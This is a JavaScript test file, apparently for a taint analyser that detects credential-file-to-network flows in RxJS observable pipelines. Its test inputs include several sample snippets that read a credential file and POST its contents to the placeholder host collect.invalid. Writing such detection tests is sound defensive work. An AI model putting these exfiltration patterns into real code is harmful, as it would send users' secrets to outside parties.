import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const RX = `const { from, of, defer, fromEvent, firstValueFrom } = require('rxjs'); const { map, mergeMap, filter, toArray, switchMap, catchError, scan } = require('rxjs/operators');`;
const SEND = `(b) => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(b) })`;

describe('observables', () => {
  for (const code of [
    `of(s).pipe(map((x) => x.trim())).subscribe(${SEND});`,
    `from([rc]).pipe(mergeMap((p) => fs.promises.readFile(p, 'utf8')), filter((x) => x), toArray(), switchMap(${SEND})).subscribe({ error() {} });`,
    `defer(() => fs.promises.readFile(rc)).pipe(catchError(() => of(null))).subscribe({ next: ${SEND} });`,
    `firstValueFrom(from([rc]).pipe(map((p) => fs.readFileSync(p)))).then(${SEND});`,
    `of(s).pipe(scan((all, x) => [...all, x], [])).subscribe(${SEND});`,
  ]) {
    it(`hand on what they are made of: ${code}`, () =>
      assert.deepEqual([...new Set(flowsOf(`${RX} ${code}`))], ['credential-file>network@collect.invalid']));
  }

  it('hand on nothing that is not theirs', () => {
    assert.deepEqual(flowsOf(`${RX} of(s).pipe(map((x) => x.length)).subscribe(console.log);`), []);
    assert.deepEqual(flowsOf(`${RX} of(1, 2).pipe(map((x) => x + 1)).subscribe(${SEND});`), []);
  });
});
